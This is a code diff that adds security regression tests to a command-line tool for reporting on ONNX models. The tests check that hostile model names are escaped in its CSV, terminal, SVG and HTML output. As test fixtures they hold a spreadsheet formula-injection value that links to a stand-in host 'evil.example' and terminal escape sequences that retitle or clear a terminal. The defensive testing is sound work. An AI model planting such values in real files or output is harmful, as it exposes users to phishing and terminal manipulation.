@@ -1,9 +1,11 @@
-import { lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { cpSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
+import { decodeModel, encodeModel } from '../../src/model/onnx/onnxProto.js';
 import { writeReportJson } from '../../src/report/index.js';
 import { runIw } from '../helpers/runIw.js';
+import { tinyGpt2 } from '../model/modelTestKit.js';
 import { syntheticReport } from '../report/helpers/syntheticReport.js';
 
 /**
@@ -72,5 +74,61 @@ describe('a report whose model.id is "evil/.."', () => {
     const result = await runIw(['plot', ...paths, '--out', out]);
     expect(result).toMatchObject({ code: 2, stderr: `iw: refusing to write into ${join(out, 'a')}: it is a symbolic link; remove it or choose another --out\n` });
     expect(readdirSync(elsewhere)).toEqual([]);
+  });
+});
+
+/** ESC ] 0 ; … BEL retitles a terminal; BEL, DEL and a C1 CSI besides. */
+const TERMINAL_TITLE = '\u001b]0;pwned\u0007';
+// eslint-disable-next-line no-control-regex -- looking for control characters is the point
+const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
+
+describe('a report whose model.id starts a spreadsheet formula', () => {
+  it('gives iw compare a compare.csv whose label cell is text, not a live formula', async () => {
+    const paths = reportsOf('formula', 'org/=HYPERLINK("evil.example"&A1,"click")', 'models/good');
+    const out = join(folder, 'formula', 'out');
+    expect((await runIw(['compare', ...paths, '--out', out])).code).toBe(0);
+    const rows = readFileSync(join(out, 'compare.csv'), 'utf8').trimEnd().split('\n').slice(1);
+    expect(rows[0]).toMatch(/^"'=HYPERLINK\(""evil\.example""&A1,""click""\)",/);
+    expect(rows.every((row) => !/^[=+\-@\t\r]/.test(row))).toBe(true);
+  });
+});
+
+describe('a report whose model.id holds control characters', () => {
+  it('reaches neither the terminal (iw compare) nor the SVG and HTML (iw plot, iw compare) raw', async () => {
+    const paths = reportsOf('control', `org/model${TERMINAL_TITLE}\u007f\u009b2J`, 'models/good');
+    const compared = await runIw(['compare', ...paths, '--out', join(folder, 'control', 'compared')]);
+    expect(compared.code).toBe(0);
+    expect(compared.stdout).not.toMatch(CONTROL);
+    expect(compared.stdout).toContain('model\\u001b]0;pwned\\u0007\\u007f\\u009b2J');
+    const json = await runIw(['compare', ...paths, '--json']);
+    expect(JSON.parse(json.stdout).reports[0].label).toBe(`model${TERMINAL_TITLE}\u007f\u009b2J`);
+    const plotted = await runIw(['plot', paths[0]]);
+    expect(plotted.code).toBe(0);
+    const files = ['windows.svg', 'parameters.svg', 'fits.svg', 'report.html'].map((file) => join(folder, 'control', 'run0', file));
+    files.push(...['parameters.svg', 'compare.html'].map((file) => join(folder, 'control', 'compared', file)));
+    for (const file of files) {
+      const text = readFileSync(file, 'utf8');
+      expect(text, file).not.toMatch(CONTROL);
+      expect(text, file).toContain('\\u001b]0;pwned\\u0007');
+    }
+  });
+});
+
+describe('a model whose tensor names hold control characters', () => {
+  it('reaches iw layers\' table escaped', async () => {
+    const model = join(folder, 'control-tensors');
+    cpSync(tinyGpt2, model, { recursive: true });
+    const onnx = decodeModel(readFileSync(join(model, 'onnx', 'model.onnx')));
+    const tensor = '/transformer/ln_f/Add_1_output_0';
+    const renamed = `/transformer/ln_f${TERMINAL_TITLE}`;
+    for (const node of onnx.graph.node) {
+      node.input = node.input.map((name) => (name === tensor ? renamed : name));
+      node.output = node.output.map((name) => (name === tensor ? renamed : name));
+    }
+    writeFileSync(join(model, 'onnx', 'model.onnx'), encodeModel(onnx));
+    const result = await runIw(['layers', '--model', model]);
+    expect(result).toMatchObject({ code: 0, stderr: '' });
+    expect(result.stdout).not.toMatch(CONTROL);
+    expect(result.stdout).toMatch(/^2\s+final-norm\s+64\s+\/transformer\/ln_f\\u001b\]0;pwned\\u0007$/m);
   });
 });
